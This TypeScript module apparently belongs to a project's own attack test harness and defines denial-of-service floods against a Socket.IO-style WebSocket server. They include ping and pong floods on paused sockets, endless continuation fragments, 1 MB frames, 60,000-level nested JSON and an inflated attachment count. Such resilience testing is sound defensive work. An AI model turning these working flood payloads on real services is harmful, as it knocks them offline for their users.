import { encodeFrame, OPCODE } from "../../test/support/raw-websocket.ts";
import type { Attack } from "./attack.ts";

/** The largest payload of a control frame. */
const CONTROL_BYTES = 125;

/** Frames in one write. */
const FRAMES = 500;

const many = (frame: Uint8Array) => Buffer.concat(Array.from({ length: FRAMES }, () => frame));

/** A flood of one kind of frame on connections that have only an Engine.IO session, or on which a user has come in. */
function frames(name: string, options: { isIn: boolean; reads: boolean }, bytes: Uint8Array): Attack {
  return {
    name,
    run: async (attacker) => {
      const opened = await Promise.all(
        Array.from({ length: 3 }, () => (options.isIn ? attacker.enterAsNewUser() : attacker.open())),
      );
      const sockets = opened.filter((socket) => socket !== undefined);
      for (const socket of sockets) {
        if (options.reads) attacker.countReplies(socket);
        else socket.tcp.pause();
      }
      await attacker.flood(
        sockets.map(({ tcp }) => tcp),
        bytes,
        FRAMES,
      );
    },
  };
}

const PING = encodeFrame(OPCODE.ping, Buffer.alloc(CONTROL_BYTES, "p"));
const ACKS = encodeFrame(OPCODE.text, '421["away",{}]');
const DEEP = "[".repeat(60_000);

export const FRAME_ATTACKS: readonly Attack[] = [
  frames("unread-pongs", { isIn: false, reads: false }, many(PING)),
  frames("unread-pongs-inside", { isIn: true, reads: false }, many(PING)),
  frames("read-pongs", { isIn: false, reads: true }, many(PING)),
  frames("unread-replies", { isIn: true, reads: false }, many(ACKS)),
  frames("pongs", { isIn: true, reads: true }, many(encodeFrame(OPCODE.pong, Buffer.alloc(CONTROL_BYTES)))),
  frames("empty-frames", { isIn: true, reads: true }, many(encodeFrame(OPCODE.text, ""))),
  {
    name: "fragments",
    run: async (attacker) => {
      const socket = await attacker.open();
      if (socket === undefined) return;
      socket.sendFrame(OPCODE.text, "4", false);
      await attacker.flood([socket.tcp], many(encodeFrame(OPCODE.continuation, "", false)), FRAMES);
    },
  },
  {
    name: "large-frames",
    run: async (attacker) => {
      const bytes = encodeFrame(OPCODE.text, Buffer.alloc(1024 * 1024, "x"));
      await attacker.repeat(20, async () => {
        const socket = await attacker.open();
        socket?.tcp.write(bytes);
        attacker.tally.sent += 1;
      });
    },
  },
  {
    name: "deep-json",
    run: async (attacker) => {
      const texts = [
        `42["client_msg",${DEEP}`,
        `42${DEEP}${"]".repeat(60_000)}`.slice(0, 65_000),
        `40${DEEP}`,
      ];
      await attacker.repeat(20, async () => {
        const socket = await attacker.enterAsNewUser();
        for (const text of texts) socket?.send(text);
        socket?.send(`421["client_msg",${"[".repeat(30_000)}${"]".repeat(30_000)}]`);
        attacker.tally.sent += texts.length + 1;
      });
    },
  },
  {
    name: "attachments",
    run: async (attacker) => {
      const socket = await attacker.enterAsNewUser();
      if (socket === undefined) return;
      attacker.countReplies(socket);
      socket.send('459999999-["client_msg",{"_placeholder":true,"num":0}]');
      await attacker.flood([socket.tcp], encodeFrame(OPCODE.binary, Buffer.alloc(60 * 1024)));
    },
  },
];
